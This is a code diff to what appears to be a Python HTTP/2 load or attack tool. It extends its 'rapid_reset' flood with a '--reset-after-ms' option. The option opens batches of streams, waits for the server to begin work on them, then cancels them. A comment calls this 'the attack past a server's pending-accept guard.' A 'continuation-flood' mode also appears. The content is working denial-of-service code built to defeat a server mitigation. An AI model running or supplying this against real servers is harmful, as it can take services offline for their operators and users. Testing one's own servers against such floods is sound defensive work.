@@ -198,10 +198,30 @@ def rapid_reset(args):
     while (out["sent"] < args.streams and not out["goaway"] and not out["closed"]
            and not out["stalled"]):
         batch = min(args.batch, args.streams - out["sent"])
+        sids = []
         for _ in range(batch):
             sid = conn.get_next_available_stream_id()
             conn.send_headers(sid, headers, end_stream=True)
-            conn.reset_stream(sid, ErrorCodes.CANCEL)
+            sids.append(sid)
+            if not args.reset_after_ms:
+                conn.reset_stream(sid, ErrorCodes.CANCEL)
+        if args.reset_after_ms:
+            # Let the server accept the streams (and start work on them)
+            # before resetting them: the attack past a server's
+            # pending-accept guard.
+            try:
+                if not send(sock, conn.data_to_send()):
+                    closed()
+                    break
+            except Stalled:
+                out["stalled"] = True
+                break
+            absorb(receive(sock, args.reset_after_ms / 1000))
+            for sid in sids:
+                try:
+                    conn.reset_stream(sid, ErrorCodes.CANCEL)
+                except Exception:
+                    pass
         try:
             if not send(sock, conn.data_to_send()):
                 closed()
@@ -458,6 +478,8 @@ def main():
     common(p, rapid_reset)
     p.add_argument("--streams", type=int, required=True)
     p.add_argument("--batch", type=int, default=50, help="streams per write")
+    p.add_argument("--reset-after-ms", type=float, default=0,
+                   help="send each batch's HEADERS, wait this long, then reset them")
     p.add_argument("--linger-ms", type=int, default=1000)
     p = sub.add_parser("continuation-flood")
     common(p, continuation_flood)
